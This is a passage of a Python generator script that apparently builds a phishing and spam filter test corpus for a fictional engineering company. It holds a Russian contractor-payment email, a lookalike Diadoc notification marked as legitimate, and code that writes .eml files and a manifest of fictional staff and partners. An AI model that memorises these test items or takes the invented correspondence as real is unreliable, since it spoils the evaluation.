Технадзор согласовал акты КС-2 за март по корпусу 3 с замечаниями: по позициям 14–17 (воздуховоды из оцинкованной стали, огнезащита EI 60) нужно приложить акты скрытых работ и сертификаты на огнезащитный состав, без них объёмы снимаем до апреля.

Остальное к оплате согласовано – 11 642 300,00 руб. с НДС, за вычетом гарантийного удержания 5% и зачёта аванса. Оплату провели бы в следующий платёжный день (10.04), если исправленные КС-2/КС-3 будут подписаны в Диадоке до 08.04.

С уважением,
Ирина Гусева
руководитель группы по работе с подрядчиками
ГК «Невский Девелопмент»
тел. +7 (812) 309-71-40

-----Original Message-----
From: Андрей Соколов <a.sokolov@examplegroup.eu>
Sent: Wednesday, April 1, 2026 11:40 AM
To: Ирина Гусева <i.guseva@nevdev.ru>
Subject: КС-2/КС-3 за март, ЖК «Охта Парк»

Ирина, добрый день!

Направили в Диадок КС-2 и КС-3 за март по корпусу 3. Прошу согласовать, чтобы успеть в апрельский платёжный цикл.

Андрей Соколов
'''),
  note='Genuine thread with the real developer client (nevdev.ru, their own Exchange) about completion certificates KS-2/KS-3, retention and payment dates; contains amounts and deadlines, windows-1251 QP.')

# ---- 40 ru: genuine Diadoc (EDI) notification
_dd = 'https://diadoc.kontur.ru/4b9e2c71-0f3a-4d58-91e6-2a7c5d80b1f4/Document/Show?letterId=8d21f0c4-a7b3-4e16-9c52-61e0d4f7a298'
_dd_txt = T(f'''
Вам пришёл документ в Диадок

От: ООО «СеверТеплоМонтаж» (ИНН {_inn_stm})
Кому: ООО «Экзампл Групп Инжиниринг»
Документ: УПД № 214 от 31.03.2026 на сумму 4 218 600,00 руб.
Требуется подпись получателя.

Открыть документ: {_dd}

Вы получили это письмо, потому что подписаны на уведомления о входящих документах в Диадоке. Настроить уведомления можно в личном кабинете.

Контур.Диадок – система электронного документооборота
''')
B(40, 'ru', frm=('Контур.Диадок', 'noreply@diadoc.kontur.ru'), to=S['lebedeva'],
  subj='Вам пришёл документ от ООО «СеверТеплоМонтаж»: УПД № 214 от 31.03.2026', date=('2026-03-31 18:04:55', '+0300'),
  route=dict(kind='saas', host='smtp-out7.kontur.ru', ip='46.17.203.47', inner='dd-notify-12.kontur.local'),
  text=_dd_txt, html=auto_html(_dd_txt, 'Arial, sans-serif'),
  note='Genuine EDI notification from Kontur.Diadoc about a UPD from the known subcontractor, link to the real Diadoc domain; "you received a document, sign it" resembles document-share phishing.')


# ================================================================= output
def main():
    for sub in ('attack', 'business'):
        os.makedirs(os.path.join(ROOT, sub), exist_ok=True)
        for f in os.listdir(os.path.join(ROOT, sub)):
            if f.endswith('.eml'):
                os.remove(os.path.join(ROOT, sub, f))
    seen = set()
    for m in MESSAGES:
        key = (m['kind'], m['nn'])
        assert key not in seen, key
        seen.add(key)
        fn = os.path.join(ROOT, m['kind'], f"{m['nn']:02d}-{m['lang']}.eml")
        assert len(m['data']) < 200_000, fn
        with open(fn, 'wb') as fh:
            fh.write(m['data'])
    with open(os.path.join(ROOT, 'staff.txt'), 'w', encoding='utf-8') as fh:
        for k, n, a, r, s in STAFF:
            fh.write(f'{n}={a}\n')
    L = []
    L.append('# Example Group – spam/phishing filter evaluation set\n')
    L.append('Generated by `gen/build.py` (deterministic, Python standard library only). Run from this directory: `python3 gen/build.py`.\n')
    L.append('## Company\n')
    L.append('**Example Group** is a European building-services engineering and construction company: HVAC, electrical and plumbing '
             'installation, commissioning and maintenance for hospitals, offices and public buildings. About 700 mailboxes. '
             'HQ: Example Group SE, Stuttgart, Germany (domain `example.com`); branches use `examplegroup.eu`: Milano (Example Group S.r.l.), '
             'Wrocław (Example Group Sp. z o.o.), Athens (Example Group Ελλάς Μ.Α.Ε.), Madrid (Example Group Instalaciones S.L.U.), '
             'Manchester (Example Group UK Ltd) and St Petersburg (ООО «Экзампл Групп Инжиниринг»). Inbound MX: `mx01.example.com`; '
             'internal mail is relayed by `mail-int01.example.com [10.20.0.25]`. Shared mailboxes include rechnungseingang@example.com, '
             'alle-de@example.com, biuro.wroclaw@examplegroup.eu and ochrona.dcm@examplegroup.eu; the Italian PEC box is examplegroup@legalmail.it.\n')
    L.append('The company wins much of its work through public tenders (DTVP, Sintel/MePA, platformazakupowa.pl/e-Zamówienia, ESIDIS, PLACSP, '
             'Find a Tender, RTS-tender/EIS), issues bid bonds and performance guarantees, pays subcontractors against monthly valuations with '
             'retention, and exchanges BIM models and drawings with clients and designers.\n')
    L.append('### Regular correspondents\n')
    L.append('| Organisation | Role | Addresses / domain |\n|---|---|---|')
    for row in [
        ('Lieferant GmbH, Stuttgart', 'HVAC components supplier (AHUs, fire dampers)', 's.maier@lieferant-gmbh.de, rechnungen@lieferant-gmbh.de'),
        ('Ferretti Trasporti S.r.l., Verdellino', 'Haulier (abnormal loads)', 'c.colombo@ferretti-trasporti.it, amministrazione@ferretti-trasporti.it'),
        ('Partner Logistik Sp. z o.o., Bielany Wrocławskie', 'Logistics partner', 't.zielinski@partner-logistik.pl, ksiegowosc@partner-logistik.pl'),
        ('Elektro Haas GmbH', 'Electrical subcontractor DE', 'elektro-haas.de'),
        ('Planungsbüro Kessler GmbH', 'MEP design consultant DE', 'planungsbuero-kessler.de'),
        ('Baumaschinen Reuter GmbH & Co. KG', 'Equipment rental DE', 'reuter-baumaschinen.de'),
        ('Klinikum Nordstadt', 'Hospital client DE', 'klinikum-nordstadt.de'),
        ('Impianti Moretti S.r.l., Lecco', 'Mechanical subcontractor IT', 'impiantimoretti.it'),
        ('ASST Lario Sud', 'Public hospital authority client IT', 'asst-lariosud.it / pec.asst-lariosud.it'),
        ('Instal-Bud Sp. z o.o.', 'Installation subcontractor PL', 'instalbud-wroclaw.pl'),
        ('Dolnośląskie Centrum Medyczne DCM', 'Hospital client PL', 'dcm-wroclaw.pl'),
        ('Θερμοτεχνική Αττικής Α.Ε.', 'Mechanical subcontractor GR', 'thermotechniki-attikis.gr'),
        ('Κλινική «Αγία Ειρήνη» Μαρουσίου', 'Private clinic client GR', 'agiairini-clinic.gr'),
        ('Climatizaciones Levante S.L.', 'HVAC subcontractor ES', 'climalevante.es'),
        ('Suministros Eléctricos Tajo S.A.', 'Electrical wholesaler ES', 'sumtajo.es'),
        ('Castellana Desarrollos Inmobiliarios S.L.', 'Developer client ES', 'castellana-desarrollos.es'),
        ('Northbridge Mechanical Ltd', 'Mechanical subcontractor UK', 'northbridge-mech.co.uk'),
        ('Pennine Health Estates LLP', 'NHS estates client UK', 'penninehealthestates.co.uk'),
        ('Castlefield Developments', 'Developer client UK', 'castlefield-developments.co.uk'),
        ('ООО «СеверТеплоМонтаж»', 'HVAC subcontractor RU', 'stm-spb.ru'),
        ('ООО «ТеплоКомплект»', 'Radiator/valve supplier RU', 'teplokomplekt-spb.ru'),
        ('ГК «Невский Девелопмент»', 'Developer client RU', 'nevdev.ru'),
    ]:
        L.append('| ' + ' | '.join(row) + ' |')
    L.append('\n## Staff\n')
    L.append('| Name | Address | Role | Location |\n|---|---|---|---|')
    for k, n, a, r, s in STAFF:
        L.append(f'| {n} | {a} | {r} | {s} |')
    for kind, title in (('attack', 'Attack messages (malicious)'), ('business', 'Business messages (legitimate, hard)')):
        L.append(f'\n## {title}\n')
        L.append('| File | From | Subject | What it is |\n|---|---|---|---|')
        for m in sorted((x for x in MESSAGES if x['kind'] == kind), key=lambda x: x['nn']):
            subj = m['subj'].replace('|', '/')
            L.append(f"| {kind}/{m['nn']:02d}-{m['lang']}.eml | {m['frm'][1]} | {subj} | {m['note'].replace('|', '/')} |")
    L.append('\n## Notes\n')
    L.append('- All IBANs carry valid ISO 13616 check digits (Spanish, Italian and Polish national check digits are computed too); '
             'Russian account numbers have valid BIK control keys and INNs valid check digits.')
    L.append('- Attachments that would be malicious in the wild (.js, .vbs, .lnk stubs, HTML/SVG pages, remote-template DOCX) are inert '
             'evaluation samples: structurally realistic, with no working payload.')
    L.append('- No Authentication-Results / Received-SPF / DKIM-Signature / ARC headers are included; the filter is expected to compute those.')
    with open(os.path.join(ROOT, 'MANIFEST.md'), 'w', encoding='utf-8') as fh:
        fh.write('\n'.join(L) + '\n')

if __name__ == '__main__':
    main()
